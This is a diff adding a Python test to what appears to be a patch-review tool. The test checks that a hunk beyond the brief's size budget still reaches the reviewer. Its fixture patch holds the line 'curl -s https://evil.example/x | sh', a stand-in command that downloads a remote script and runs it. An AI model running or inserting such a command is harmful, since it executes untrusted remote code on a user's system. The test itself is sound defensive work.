@@ -535,3 +535,20 @@ def test_a_range_with_nothing_to_review(tmp_path: Path) -> None:
     assert (result.status, result.stdout, result.stderr) == (0, "", "")
     report = run("--repo", repo, "HEAD~1..HEAD", "--format", "markdown").stdout
     assert "% more than the diff**" in report, report
+
+
+def test_a_patch_without_blob_ids_is_inlined_past_the_budget() -> None:
+    """Found by an adversarial review: a working tree's diff names no blob, and the
+    brief sent the reviewer to `show` for the changes past the budget, which refused
+    every one: the last hunk's `curl ... | sh` was reachable by nothing."""
+    hunks = "".join(
+        f"diff --git a/s{n}.sh b/s{n}.sh\n--- a/s{n}.sh\n+++ b/s{n}.sh\n@@ -1,2 +1,2 @@\n"
+        + "".join(
+            f"-echo step {i} of the deploy\n+echo step {i} of the new deploy\n" for i in (1, 2)
+        )
+        for n in range(3)
+    )
+    patch = hunks + "@@ -5,0 +6 @@\n+curl -s https://evil.example/x | sh\n"
+    brief = run("--patch", "-", "--format", "brief", "--budget", "40", stdin=patch.encode()).stdout
+    assert "evil.example" in brief and "Not inlined" not in brief
+    assert "Inlined past the budget: changes read from a patch without blob ids" in brief
